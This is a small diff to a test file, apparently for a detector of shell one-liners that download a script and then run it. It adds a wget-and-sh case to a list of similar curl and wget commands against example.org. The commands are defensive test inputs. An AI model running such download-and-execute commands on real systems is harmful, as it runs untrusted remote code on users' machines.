@@ -14,6 +14,7 @@ describe('a file that is written and run in one line', () => {
   test.each([
     'curl -o i.sh https://example.org/i.sh && bash i.sh',
     'curl -O https://example.org/i.sh; sh ./i.sh',
+    'wget "$BASE/i.sh" && sh i.sh',
     'wget -q https://example.org/i.sh?v=1 && chmod +x i.sh && ./i.sh',
     'curl https://example.org/i > /tmp/i.sh; cd /tmp; ./i.sh',
     'curl -s https://example.org/i | tee i.sh; . ./i.sh',
